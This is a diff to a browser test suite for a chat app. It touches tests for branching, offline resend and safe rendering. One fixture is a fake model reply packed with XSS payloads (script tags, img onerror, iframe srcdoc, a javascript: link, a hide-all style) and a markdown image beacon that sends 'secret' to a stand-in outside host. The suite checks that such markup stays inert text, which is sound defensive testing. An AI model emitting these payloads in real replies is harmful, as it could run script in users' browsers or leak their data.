@@ -91,6 +91,7 @@ test("editing, branching, deleting, and bringing back", async (t) => {
   await mine.getByRole("button", { name: /What to do with/ }).click();
   await mine.getByRole("button", { name: "Branch: go on from here in a new chat" }).click();
   await page.getByText("A new chat goes on from there.").waitFor();
+  await last(page).getByRole("button", { name: "Ask for a reply" }).waitFor();
   assert.equal(await messages(page).count(), 2);
   assert.equal(await said(page, "A room with a view.").count(), 0);
 
@@ -142,7 +143,7 @@ test("two windows show the same", async (t) => {
 });
 
 test("a message is never sent twice, whatever the line does", async (t) => {
-  const { page, model, context } = await atTheInn(t);
+  const { tavern, page, model, context } = await atTheInn(t);
   await meet(page);
   // The server gets it, and its answer is lost on the way.
   await page.route("**/api/v1/generations", async (route) => {
@@ -179,6 +180,9 @@ test("a message is never sent twice, whatever the line does", async (t) => {
   await page.getByText("You are offline.").waitFor();
   await context.setOffline(false);
   await page.getByText("You are offline.").waitFor({ state: "detached" });
+  // The browser logs the breaks that this test makes.
+  const others = tavern.faults.filter((fault) => !/net::ERR_(CONNECTION|INTERNET|NETWORK|INCOMPLETE)/.test(fault));
+  tavern.faults.splice(0, Infinity, ...others);
 });
 
 test("a model that refuses is told of in words, and asked again", async (t) => {
@@ -210,7 +214,7 @@ test("thoughts are folded, code has colours, and what bites stays text", async (
     thinking: "They want code. <img src=x onerror=alert(1)> Let me think. ",
     text:
       "Here:\n\n```js\nconst a = \"<script>alert(1)</script>\"; // one\n```\n\n<script>alert(1)</script><img src=x onerror=alert(1)>" +
-      "<iframe srcdoc='<script>alert(1)</script>'></iframe> [x](javascript:alert(1)) ![beacon](https://outside.invalid/?q=secret)" +
+      "<iframe srcdoc='<script>alert(1)</script>'></iframe>\n\n[x](javascript:alert(1)) ![beacon](https://outside.invalid/?q=secret)" +
       "\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n<style>*{display:none}</style> done",
     pace: 2,
   });
